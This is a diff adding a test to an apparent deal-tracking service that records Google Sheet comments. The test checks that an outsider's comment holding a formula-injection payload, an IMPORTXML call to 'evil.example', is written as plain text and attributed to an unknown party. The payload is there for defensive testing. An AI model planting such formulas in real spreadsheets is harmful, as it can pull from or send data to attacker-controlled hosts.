@@ -147,3 +147,34 @@ def test_a_buyer_comment_is_attributed_in_activity_and_an_unanswered_question_is
     assert any("replied to a comment" in what for what in whats)
     again = deal.services.watcher.tick()
     assert [e for e in again.events if e.kind.value.startswith("comment_")] == []
+
+
+def test_someone_outside_the_deal_is_named_from_the_sharing_and_their_text_stays_text(
+    deal: Deal, sheets: Any, drive: Any
+) -> None:
+    dana = f"dana-{uuid.uuid4().hex[:8]}@partner.example"
+    drive(deal.owner).permissions().create(
+        fileId=deal.sheet, body={"type": "user", "role": "commenter", "emailAddress": dana}
+    ).execute()
+    formula = '=IMPORTXML("http://evil.example","//a")'
+    drive(dana).comments().create(
+        fileId=deal.sheet, body={"content": formula}, fields="id"
+    ).execute()
+
+    before = deal.served()
+    (event,) = [e for e in deal.services.watcher.tick().events if e.kind.value == "comment_added"]
+    after = deal.served()
+
+    # Not one of the deal's people: found by the name Google gives the people it is shared with.
+    assert (event.actor.email, event.actor.side) == (dana, "unknown")
+    assert after.get("drive.permissions.list", 0) - before.get("drive.permissions.list", 0) == 1
+    got = (
+        sheets(deal.owner)
+        .spreadsheets()
+        .values()
+        .get(spreadsheetId=deal.sheet, range="Activity!A2:H60", valueRenderOption="FORMULA")
+        .execute()["values"]
+    )
+    (row,) = [r for r in got if r[7] == event.event_id]
+    assert row[6] == formula  # written RAW: the buyer's formula is text in the plan
+    assert _flags(deal.review(5)) == []  # not the buyer's: no buyer question
